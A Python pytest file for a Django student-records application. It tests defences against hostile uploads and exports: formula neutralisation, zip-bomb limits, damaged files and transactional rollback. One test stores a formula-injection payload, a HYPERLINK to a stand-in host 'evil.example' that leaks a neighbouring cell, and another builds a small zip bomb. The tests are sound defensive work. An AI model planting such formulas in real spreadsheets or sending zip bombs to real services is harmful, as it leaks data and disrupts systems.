"""Hostile files and hostile data: formulas in exports, oversized or damaged uploads, failures
half-way through a commit."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from otmetka.contingent import imports
from otmetka.contingent.tests.factories import csv_file, student_row, xlsx_file
from otmetka.documents.tests.factories import build, ordered
from otmetka.lib import tables
from otmetka.people.models import Guardianship, Person, Student
from otmetka.test import World

pytestmark = pytest.mark.django_db


def _upload(world: World, content: bytes, name: str) -> Any:
    return world.client_for("secretary").post(
        reverse("contingent:students_import"), {"file": SimpleUploadedFile(name, content)}
    )


def test_exported_cells_that_look_like_formulas_stay_text(
    world: World, settings: Any, tmp_path: Path
) -> None:
    settings.MEDIA_ROOT = tmp_path
    # A name or a phone typed as «=HYPERLINK(…)» must not become a live formula in Excel.
    person = world.college.student.person
    Person.objects.filter(pk=person.pk).update(
        last_name='=HYPERLINK("http://evil.example/?"&B2,"Нажмите")', phone="+7 913 000-00-00"
    )
    order = world.client_for("secretary").post(reverse("contingent:students_export"))
    document = build(ordered(order))
    sheet = load_workbook(document.file.path).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if str(r[0].value).startswith("="))
    name, phone = row[0], row[header.index("Телефон")]
    assert name.data_type == "s" and name.quotePrefix
    assert name.value == '=HYPERLINK("http://evil.example/?"&B2,"Нажмите")'
    assert phone.data_type == "s" and phone.quotePrefix and phone.value == "+7 913 000-00-00"


def test_xlsx_bytes_neutralises_every_dangerous_start() -> None:
    content = tables.xlsx_bytes(
        [tables.Sheet("Лист", ["a"], [["=1+1"], ["+1"], ["-1"], ["@SUM(A1)"], ["\t=1"], ["ok"]])]
    )
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.quotePrefix for cell in cells] == [True] * 5 + [False]


def test_a_csv_with_an_enormous_cell_is_refused_clearly(world: World) -> None:
    content = csv_file([student_row(1, address="x" * 200_000)], encoding="utf-8-sig")
    response = _upload(world, content, "list.csv")
    assert response.status_code == 200
    assert "Не удалось прочитать файл CSV" in response.content.decode()


def test_an_xlsx_that_unpacks_too_big_is_refused(world: World, monkeypatch: Any) -> None:
    # A «zip bomb»: a few kilobytes that unpack to far more than any real list of students.
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_file([student_row(1)]))) as source:
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for item in source.infolist():
                target.writestr(item, source.read(item.filename))
            target.writestr("xl/padding.xml", b" " * 3_000_000)
    assert len(buffer.getvalue()) < 100_000
    monkeypatch.setattr(tables, "XLSX_MAX_UNPACKED_BYTES", 2_000_000)
    response = _upload(world, buffer.getvalue(), "list.xlsx")
    assert response.status_code == 200
    assert "Файл XLSX слишком велик" in response.content.decode()
    assert not Person.objects.filter(last_name="Новиков1").exists()


def test_a_damaged_xlsx_is_refused_clearly(world: World) -> None:
    good = xlsx_file([student_row(1)])
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source:
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename.startswith("xl/worksheets/"):
                    data = data[: len(data) // 2]  # cut in the middle of the XML
                target.writestr(item, data)
    response = _upload(world, buffer.getvalue(), "list.xlsx")
    assert response.status_code == 200
    assert "Не удалось прочитать файл XLSX" in response.content.decode()


def test_a_failure_half_way_through_the_commit_writes_nothing(
    world: World, monkeypatch: Any
) -> None:
    # Persons, students and memberships are already inserted when the guardians fail.
    persons, students = Person.objects.count(), Student.objects.count()

    def broken(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("диск переполнен")

    monkeypatch.setattr(Guardianship.objects, "bulk_create", broken)
    content = xlsx_file([student_row(number) for number in range(1, 6)])
    with pytest.raises(RuntimeError):
        imports.students_import(
            actor=world.actor("secretary"), name="a.xlsx", content=content
        )
    assert (Person.objects.count(), Student.objects.count()) == (persons, students)
